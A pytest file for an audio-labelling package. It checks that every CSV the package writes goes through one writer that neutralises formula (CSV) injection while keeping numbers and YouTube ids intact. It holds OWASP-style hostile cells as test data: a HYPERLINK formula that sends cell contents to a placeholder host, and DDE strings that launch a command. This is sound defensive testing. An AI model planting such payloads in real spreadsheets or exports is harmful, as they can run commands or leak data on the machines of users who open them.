"""The one CSV writer (``acoustic_env/csv_writer.py``): its rule, and every CSV the package writes going through it.

OWASP's CSV injection: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return opens as a
formula in a spreadsheet. Each writer below is handed such cells (from a clip id, a class, a reviewer, a note, a
tag) and its file is read back with Python's ``csv`` module: no cell may open as a formula, and a number stays a
number. ``test_no_module_writes_csv_but_the_writer`` keeps a new writer from going round it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from pathlib import Path

import pyarrow as pa
import pytest

from acoustic_env.csv_writer import (csv_bytes, needs_quote, restore_cell, restore_column, safe_cell, safe_column,
                                     write_csv_table)

PACKAGE = Path(__file__).resolve().parents[1] / "acoustic_env"
#: Cells an attacker would try (OWASP's examples among them), one per trigger.
HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-1+1", "=1"]
#: Cells that must come back as written: numbers, AudioSet's ids, text, and a cell the user began with ' himself.
KEPT = ["-0.5", "+3", "1e-05", "-1.5E+07", ".5", "-0RWZT-miFs", "-0RWZT-miFs_30000", "-", "bird", "", "'quoted"]


def read(uri: str | Path) -> str:
    """A file's text as written (no newline translation: a carriage return inside a cell stays one)."""
    return Path(uri).read_bytes().decode()


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would open as a formula (none, from the writer): a cell that
    starts with a trigger, unless it is a number or a ``-`` id."""
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|-[A-Za-z0-9_.\-]*", c)]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_open_as_a_formula_gets_a_quote_and_reads_back_as_written(cell):
    assert safe_cell(cell) == "'" + cell and restore_cell(safe_cell(cell)) == cell


@pytest.mark.parametrize("cell", KEPT)
def test_numbers_youtube_ids_and_text_are_written_as_they_are(cell):
    assert safe_cell(cell) == cell and restore_cell(cell) == cell


def test_a_cell_the_user_began_with_a_quote_reads_back_as_the_user_wrote_it():
    """``'=x`` written by a user is not the writer's quote: it gets one more, and reading takes exactly one off."""
    for cell in ("'=x", "''@y"):
        assert safe_cell(cell) == "'" + cell and restore_cell(safe_cell(cell)) == cell


def test_arrow_and_python_apply_one_rule():
    """``safe_column`` (Arrow's regular expressions) and ``safe_cell`` agree on every cell; numbers in a numeric
    column and nulls are untouched."""
    cells = HOSTILE + KEPT + ["'=x", "''", "- 1", "-a b", "@", "+"]
    assert safe_column(pa.array(cells)).to_pylist() == [safe_cell(c) for c in cells]
    assert safe_column(pa.array(cells, pa.large_string())).to_pylist() == [safe_cell(c) for c in cells]
    assert safe_column(pa.array(["=x", None]).dictionary_encode()).to_pylist() == ["'=x", None]
    written = [safe_cell(c) for c in cells]
    assert restore_column(pa.array(written)).to_pylist() == [restore_cell(c) for c in written] == cells
    numbers = pa.array([-0.5, None, 3.0])
    assert safe_column(numbers) is numbers
    assert [needs_quote(c) for c in ("=x", "-0.5", "-id", "-a b")] == [True, False, False, True]


def test_csv_bytes_and_write_csv_table_neutralise_every_text_cell_and_keep_numbers():
    text = csv_bytes(["clip_id", "labels", "prob"], [{"clip_id": c, "labels": [c, "b"], "prob": -0.5}
                                                     for c in HOSTILE]).decode()
    assert not formula_cells(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [restore_cell(r["clip_id"]) for r in rows] == HOSTILE and {r["prob"] for r in rows} == {"-0.5"}
    # a carriage return inside a cell is quoted: unquoted, a reader would start a row, and a cell, at "=1+1"
    text = csv_bytes(["note", "n"], [{"note": "fine\r=1+1", "n": 1}]).decode()
    assert text == 'note,n\n"fine\r=1+1",1\n' and not formula_cells(text)
    sink = pa.BufferOutputStream()
    write_csv_table(pa.table({"clip_id": HOSTILE, "prob": [-0.5] * len(HOSTILE)}), sink)
    text = sink.getvalue().to_pybytes().decode()
    assert not formula_cells(text) and text.count("\n-0.5") == 0 and text.count(",-0.5\n") == len(HOSTILE)


def test_the_label_list_and_its_conflicts_are_neutralised_and_read_back_as_written(tmp_path):
    """``labels apply``'s list and ``conflicts.csv``: a clip id, a class, a reviewer and a note an attacker chose;
    the list reads back (``--labels``) with the clip and class as stored."""
    from acoustic_env.labels.current import corrected
    from acoustic_env.labels.label_list import conflicts_uri, read_label_list, write_list
    from acoustic_env.labels.store import Event
    from acoustic_env.vocabulary.tasks import load_task

    task = load_task("labels:=cmd,@other")
    when = datetime(2026, 1, 1, tzinfo=timezone.utc)
    events = [Event("=1+1", task.name, "review", ("=cmd",), "wrong", ("@other",), "+evil", when, "-x|y", "@note"),
              Event("-2+3+cmd|x", task.name, "review", ("=cmd",), "wrong", ("@other",), "@a", when, "", "=n"),
              Event("-2+3+cmd|x", task.name, "review", ("@other",), "correct", ("@other",), "-b", when, "", "")]
    listed = str(tmp_path / "list.csv")
    write_list(corrected(events), listed)
    for uri in (listed, conflicts_uri(listed)):
        text = read(uri)
        assert not formula_cells(text) and "=cmd" in text
    assert read_label_list(listed, task).labels == {"=1+1": ("=cmd",)}


def test_tables_saved_as_csv_are_neutralised(tmp_path):
    """``predict --save``, ``search --save``, windows, review.csv and ``export`` write through
    ``jobs.export.write_table``: its text cells (a list column joined first) neutralised, probabilities numbers."""
    from acoustic_env.jobs.export import write_table

    out = tmp_path / "p.csv"
    write_table(pa.table({"clip_id": HOSTILE, "predicted": [["=a", "b"]] * len(HOSTILE),
                          "prob_=a": [-0.25] * len(HOSTILE)}), str(out))
    text = read(out)
    assert not formula_cells(text) and "'=a;b" in text and text.count(",-0.25\n") == len(HOSTILE)


def test_the_recipes_lists_and_the_tag_frequencies_are_neutralised(tmp_path):
    """The FSD50K recipe's clip list (``recipes.common.write_manifest``, every recipe's) and its tag table."""
    from acoustic_env.audio.manifest import read_manifest
    from acoustic_env.recipes.common import write_manifest
    from acoustic_env.recipes.fsd50k_tags import write_frequency_csv

    rows = [{"clip_id": c, "uri": f"{i}.wav", "labels": ["=tag", "-2+3+cmd|x"], "group": "@g", "fold": 1}
            for i, c in enumerate(HOSTILE)]
    text = read(write_manifest(rows, str(tmp_path), "fsd50k"))
    assert not formula_cells(text) and len(list(csv.DictReader(io.StringIO(text)))) == len(HOSTILE)
    listed = read_manifest(str(tmp_path / "fsd50k.csv")).table  # extract reads the list back as the recipe meant it
    assert listed["clip_id"].to_pylist() == HOSTILE and listed["labels"][0].as_py() == ["=tag", "-2+3+cmd|x"]
    uri = write_frequency_csv([{"scope": "all", "rank": 1, "tag": t, "clips": 3, "share": 0.5, "category": "=c"}
                               for t in HOSTILE], str(tmp_path / "freq.csv"))
    assert not formula_cells(read(uri))


def test_audioset_segment_lines_and_the_rescored_fields_are_neutralised():
    """AudioSet's list format (``audioset sample``, ``rescore``): a YouTube id and a MID are never changed; a
    forged id or label that would open as a formula is."""
    from acoustic_env.audioset.segments import segment_lines
    from acoustic_env.jobs.audioset.rescored import _field

    table = pa.table({"YTID": ["-0RWZT-miFs", "=1+1"], "start_s": [0.0, 1.0], "end_s": [10.0, 11.0],
                      "labels": [["/m/09x0r"], ["@SUM(1)", "/m/x"]]})
    lines = segment_lines(table).splitlines()
    assert lines == ['-0RWZT-miFs, 0.000, 10.000, "/m/09x0r"', "'=1+1, 1.000, 11.000, \"'@SUM(1),/m/x\""]
    assert [_field(c) for c in ("=cmd", "-0RWZT-miFs", "+a,b")] == ["'=cmd", "-0RWZT-miFs", "\"'+a,b\""]


#: How a module could write CSV other than through the writer: the csv module's writers, Arrow's, pandas'.
_OTHER_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bwrite_csv\(|CSVWriter\(|\.to_csv\(")


def test_no_module_writes_csv_but_the_writer():
    """Every CSV the package writes goes through ``acoustic_env/csv_writer.py``: no other module calls the csv
    module's writers, Arrow's ``write_csv`` or pandas' ``to_csv``."""
    found = {p.relative_to(PACKAGE).as_posix(): m.group() for p in sorted(PACKAGE.rglob("*.py"))
             if p.name != "csv_writer.py" or p.parent != PACKAGE
             for m in [_OTHER_WRITERS.search(p.read_text(encoding="utf-8"))] if m}
    assert not found, f"CSV written around acoustic_env/csv_writer.py: {found}"
